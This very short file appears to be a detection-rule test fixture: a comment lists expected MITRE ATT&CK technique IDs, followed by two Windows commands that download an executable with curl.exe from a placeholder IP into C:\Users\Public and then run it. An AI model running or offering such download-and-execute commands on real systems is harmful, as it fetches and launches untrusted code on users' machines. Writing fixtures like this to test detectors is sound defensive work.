# expect: T1105 T1204.002
curl.exe -o C:\Users\Public\a.exe http://198.51.100.1/a
C:\Users\Public\a.exe
